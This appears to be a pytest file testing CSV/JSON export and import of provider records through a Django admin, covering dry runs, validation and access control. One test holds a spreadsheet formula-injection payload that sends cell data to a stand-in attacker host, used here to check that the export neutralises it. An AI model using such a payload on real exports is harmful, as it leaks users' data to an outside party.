"""Bulk export and import of provider records (providers/resources.py, through the console):
a dry run first, and all rows or none."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import tempfile
from pathlib import Path

import pytest
from django.test import Client

from providers.facts import Fact
from providers.models import Provider
from providers.resources import COLUMNS, ProviderResource
from tests.factories import ProviderFactory, UserFactory
from tests.wizard.helpers import consumer_plan_page

pytestmark = pytest.mark.django_db

IMPORT = "/admin/providers/provider/import/"
CONFIRM = "/admin/providers/provider/process_import/"
EXPORT = "/admin/providers/provider/export/"
CSV, JSON = "0", "1"  # the order of the formats offered on the import and export forms


@pytest.fixture
def bank():
    return ProviderFactory(slug="bank", name_zh="测试银行", hotline="95500", unverified=["grace"])


def export(client: Client, file_format: str) -> str:
    """Download every provider through the export page, all columns ticked."""
    form = client.get(EXPORT).content.decode()
    data = {"format": file_format, "resource": "0"}
    data |= dict.fromkeys(re.findall(r'name="(providerresource_[^"]+)"', form), "on")
    response = client.post(EXPORT, data)
    assert response.status_code == 200
    return response.content.decode("utf-8-sig")


def csv_rows(**rows: dict[str, str]) -> str:
    """A CSV file: one row per slug, starting from the bank's exported row."""
    template = next(csv.DictReader(io.StringIO(ProviderResource().export().csv)))
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=COLUMNS)
    writer.writeheader()
    for slug, changes in rows.items():
        writer.writerow({**template, "slug": slug, **changes})
    return out.getvalue()


def upload(client: Client, text: str, *, file_format: str = CSV, name: str = "providers.csv"):
    """The first step of an import: the dry run and its preview."""
    file = io.BytesIO(text.encode("utf-8"))
    file.name = name
    return client.post(IMPORT, {"format": file_format, "resource": "0", "import_file": file})


def confirm_form(html: str) -> dict[str, str]:
    fields = re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', html)
    return {name: value for name, value in fields if name != "csrfmiddlewaretoken"}


def page_text(html: str) -> str:
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", html))


def test_export_as_csv_has_one_readable_row_per_provider(support_client, bank):
    ProviderFactory(slug="other")
    rows = list(csv.DictReader(io.StringIO(export(support_client, CSV))))
    assert tuple(rows[0]) == COLUMNS
    exported = {row["slug"]: row for row in rows}
    assert set(exported) == {"bank", "other"}
    assert exported["bank"]["hotline"] == "95500"
    assert exported["bank"]["grace_certainty"] == "weak"
    assert exported["bank"]["hotline_certainty"] == "official"
    assert exported["bank"]["grace_source"] == "https://bank.example.com/rules"
    assert exported["bank"]["due_cutoff"] == "20:00:00"


def test_export_as_json(support_client, bank):
    records = json.loads(export(support_client, JSON))
    assert [r["slug"] for r in records] == ["bank"]
    assert records[0]["name_zh"] == "测试银行"


@pytest.mark.parametrize(("file_format", "name"), [(CSV, "p.csv"), (JSON, "p.json")])
def test_re_importing_an_export_changes_nothing(support_client, bank, file_format, name):
    exported = export(support_client, file_format)
    preview = upload(support_client, exported, file_format=file_format, name=name)
    html = preview.content.decode()
    assert '<tr class="skip">' in html  # the row is shown, unchanged
    assert support_client.post(CONFIRM, confirm_form(html)).status_code == 302
    assert bank.history.count() == 1


def test_the_dry_run_shows_what_will_change_and_saves_nothing(support_client, bank):
    text = csv_rows(bank={"hotline": "95566"}, newbank={"name_zh": "新银行"})
    response = upload(support_client, text)
    html = response.content.decode()
    assert response.status_code == 200
    assert '<tr class="update">' in html and '<tr class="new">' in html
    assert re.search(r"955</span><del[^>]*>00</del><ins[^>]*>66</ins>", html)  # the diff
    assert 'name="confirm"' in html
    assert Provider.objects.get(slug="bank").hotline == "95500"
    assert not Provider.objects.filter(slug="newbank").exists()


def test_confirming_imports_every_row_with_history_and_the_next_plan_shows_it(
    support_client, support_user, bank
):
    assert "95500" in consumer_plan_page()
    preview = upload(support_client, csv_rows(bank={"hotline": "95566"}, newbank={}))
    response = support_client.post(CONFIRM, confirm_form(preview.content.decode()))
    assert response.status_code == 302
    assert Provider.objects.get(slug="bank").hotline == "95566"
    assert Provider.objects.filter(slug="newbank").exists()
    assert Provider.objects.get(slug="bank").history.latest().history_user == support_user
    assert "95566" in consumer_plan_page()


@pytest.mark.parametrize(("file_format", "name"), [(CSV, "p.csv"), (JSON, "p.json")])
def test_a_file_with_bad_rows_imports_nothing_and_names_each_bad_row_and_field(
    support_client, bank, file_format, name
):
    text = csv_rows(
        bank={"hotline": "95566"},
        good={},
        bad1={"hotline": "call me"},
        bad2={"due_cutoff": "25:00", "grace_days": "45"},
        bad3={"kind": "pawnshop", "is_active": "maybe", "grace_certainty": "colour"},
        bad4={"hotline_certainty": "official", "hotline_source": ""},
    )
    if file_format == JSON:
        text = json.dumps(list(csv.DictReader(io.StringIO(text))), ensure_ascii=False)
    response = upload(support_client, text, file_format=file_format, name=name)
    html = response.content.decode()
    assert 'name="confirm"' not in html  # no way to import this file
    errors = {
        int(number): body
        for number, body in re.findall(
            r"<tr>\s*<td>\s*(\d+)\s*</td>(.*?)</tr>",
            html[html.rindex("<tbody>", 0, html.index("validation-error-count")) :],
            re.S,
        )
    }
    assert set(errors) == {3, 4, 5, 6}  # rows 1 and 2 are fine
    assert "hotline" in errors[3] and "客服电话格式不对" in errors[3]
    assert "due_cutoff" in errors[4] and "截止时间格式不对" in errors[4]
    assert "grace_days" in errors[4] and "宽限期应在 0 到 30 天之间" in errors[4]
    for field in ("kind", "is_active", "grace_certainty"):
        assert field in errors[5]
    assert "hotline_source" in errors[6] and "请填写来源" in errors[6]
    assert Provider.objects.get(slug="bank").hotline == "95500"
    assert not Provider.objects.filter(slug="good").exists()


def test_a_file_that_turns_bad_between_preview_and_confirm_imports_nothing(support_client, bank):
    preview = upload(support_client, csv_rows(bank={"hotline": "95566"}, newbank={}))
    form = confirm_form(preview.content.decode())
    # The stored upload is replaced after the dry run, as if two people were importing.
    stored = Path(tempfile.gettempdir()) / form["import_file_name"]
    stored.write_text(csv_rows(bank={"hotline": "95566"}, newbank={"hotline": "oops"}))
    response = support_client.post(CONFIRM, form, follow=True)
    assert "没有任何记录被修改" in page_text(response.content.decode())
    assert Provider.objects.get(slug="bank").hotline == "95500"
    assert not Provider.objects.filter(slug="newbank").exists()


def test_every_fact_carries_its_provenance_in_the_columns():
    resource = ProviderResource()
    for fact in Fact:
        for part in ("certainty", "source", "quote", "checked_on", "note"):
            assert f"{fact}_{part}" in resource.fields, (fact, part)
    assert resource.fields["grace_ends_at"].widget.clean("") is None
    assert resource.fields["grace_ends_at"].widget.clean("16:00") == dt.time(16, 0)


def test_staff_outside_the_support_group_can_neither_import_nor_export(bank):
    client = Client()
    client.force_login(UserFactory(username="newcomer"))
    assert client.get(IMPORT).status_code == 403
    assert client.get(EXPORT).status_code == 403


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(support_client, bank):
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"点这里")'
    Provider.objects.filter(pk=bank.pk).update(name_en=formula, hotline="+86 95500")
    exported = export(support_client, CSV)
    row = next(csv.DictReader(io.StringIO(exported)))
    assert row["name_en"] == "'" + formula, "a spreadsheet shows it as text"
    assert row["hotline"] == "'+86 95500"
    assert not re.search(r'(^|,)"?[=+\-@]', exported.split("\n", 1)[1], re.M)
    # ...and the export imports back unchanged.
    html = upload(support_client, exported).content.decode()
    assert '<tr class="skip">' in html
    assert support_client.post(CONFIRM, confirm_form(html)).status_code == 302
    assert Provider.objects.get(pk=bank.pk).name_en == formula


def test_a_field_too_large_to_read_is_refused_by_name_and_limit(support_client, bank):
    response = upload(support_client, csv_rows(bank={"name_en": "x" * 150_000}))
    assert response.status_code == 200
    text = page_text(response.content.decode())
    assert "第 2 行的“name_en”有 150000 个字符" in text
    assert "100000 个字符的上限" in text
    assert "encountered" not in text
    assert Provider.objects.get(slug="bank").name_en != "x" * 150_000
